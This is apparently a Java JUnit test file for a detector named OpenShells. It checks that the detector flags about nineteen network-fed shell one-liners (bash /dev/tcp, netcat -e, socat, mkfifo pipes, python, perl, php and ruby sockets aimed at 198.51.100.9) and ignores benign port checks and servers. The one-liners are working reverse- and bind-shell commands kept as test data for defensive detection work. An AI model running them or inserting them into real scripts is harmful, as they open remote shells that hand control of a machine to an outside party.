package io.firedamp.detectors.indicators;

import static java.time.Duration.ofSeconds;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeout;

import java.util.Locale;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class OpenShellsTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "bash -i >& /dev/tcp/198.51.100.9/8080 0>&1",
        "/bin/sh -i 5<> /dev/udp/198.51.100.9/53 0<&5 1>&5 2>&5",
        "0<&196;exec 196<>/dev/tcp/198.51.100.9/4444; sh <&196 >&196 2>&196",
        "exec 5<>/dev/tcp/198.51.100.9/1; cat <&5 | while read line; do $line 2>&5 >&5; done",
        "python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"198.51.100.9\",1));"
            + "os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'",
        "python3 -c 'import socket,pty;s=socket.socket();s.bind((\"\",1));pty.spawn(\"/bin/bash\")'",
        "perl -e 'use Socket;connect(S,$a);open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
        "php -r '$s=fsockopen(\"198.51.100.9\",1);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
        "ruby -rsocket -e 'f=TCPSocket.open(\"198.51.100.9\",1).to_i;exec \"/bin/sh\"'",
        "nc -e /bin/sh 198.51.100.9 4444",
        "nc -lvnp 4444 -e /bin/bash",
        "ncat --listen 4444 --sh-exec sh",
        "busybox nc 198.51.100.9 4444 -e sh",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.9 4444 >/tmp/f",
        "mknod /tmp/p p && nc 198.51.100.9 4444 0</tmp/p | /bin/bash 1>/tmp/p",
        "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"198.51.100.9:1\");"
            + "STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
        "awk 'BEGIN {s = \"/inet/tcp/0/198.51.100.9/1\"; while(1) { s |& getline c; }}'",
        "socat TCP:198.51.100.9:4444 EXEC:/bin/sh",
        "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:bash,pty,stderr,setsid"
      })
  void aShellFedByTheNetworkIsFoundWhateverMakesIt(String command) {
    assertThat(OpenShells.in(command.toLowerCase(Locale.ROOT))).isPresent();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done",
        "bash -c '</dev/tcp/kafka/9092'",
        "exec 3<>/dev/tcp/127.0.0.1/8080; echo -e 'GET /health HTTP/1.1' >&3; grep ok <&3",
        "exec 3<>/dev/tcp/db/80; while read -r line <&3; do echo $line; done",
        "/bin/sh -c perl -MIO::Socket -e 'IO::Socket::INET->new(\"db:5432\") or exit 1' && exec app",
        "nc -z db 5432",
        "while ! nc -w 1 redis 6379; do sleep 1; done; exec sh /app/run.sh",
        "nc -lk -p 8080 -e /app/handler",
        "socat TCP-LISTEN:2375,fork UNIX-CONNECT:/var/run/docker.sock",
        "socat TCP-LISTEN:1337,fork EXEC:/app/challenge",
        "python -c 'import socket; socket.create_connection((\"db\", 5432))'",
        "python manage.py runserver",
        "RUN apt-get install -y ncat socat openssh-server",
        "/usr/sbin/sshd -D",
        "perl -e 'exec \"/bin/sh\"'",
        "php-fpm",
        "mkfifo p; while true; do cat p | nc -l 8080 | /app/answer > p; done",
        "rsync --daemon --no-detach"
      })
  void waitingForAPortOrServingOneIsNone(String command) {
    assertThat(OpenShells.in(command.toLowerCase(Locale.ROOT))).isEmpty();
  }

  @Test
  void readsHostileTextInLinearTime() {
    String spaces = "sh" + " ".repeat(50_000) + "-i /dev/tcp/ nc mkfifo ";

    assertTimeout(ofSeconds(30), () -> OpenShells.in(spaces.repeat(2) + "sh ".repeat(50_000)));
  }
}
